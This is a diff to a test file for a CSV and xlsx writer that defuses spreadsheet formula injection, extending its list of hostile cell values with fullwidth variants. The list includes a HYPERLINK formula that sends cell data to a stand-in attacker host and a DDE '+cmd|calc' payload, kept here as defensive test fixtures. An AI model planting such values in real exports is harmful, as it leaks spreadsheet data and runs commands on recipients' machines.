@@ -10,12 +10,22 @@ import { neutraliseFormula, restoreNeutralisedText, toCsv, toCsvSections, toXlsx
  * xlsx inert, in the one place that writes them; numbers stay numbers.
  */
 
-const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+cmd|calc', '-2+3', '@SUM(1)', '\t=1', '\r=1'];
+const hostile = [
+  '=HYPERLINK("http://evil.example/?"&A1,"x")',
+  '+cmd|calc',
+  '-2+3',
+  '@SUM(1)',
+  '\t=1',
+  '\r=1',
+  '＝1+1',
+  '＋1',
+];
 
 describe('the one writer of CSV and xlsx', () => {
   it('puts an apostrophe before text that would start a formula, and leaves other text and numbers alone', () => {
     for (const text of hostile) expect(neutraliseFormula(text)).toBe(`'${text}`);
-    for (const text of ['窓口', 'a=1', '', "'quoted", '１＋１']) expect(neutraliseFormula(text)).toBe(text);
+    for (const text of ['窓口', 'a=1', '', "'quoted", '１＋１', '（＝参考）'])
+      expect(neutraliseFormula(text)).toBe(text);
     for (const text of hostile) expect(restoreNeutralisedText(neutraliseFormula(text))).toBe(text);
 
     const table = {
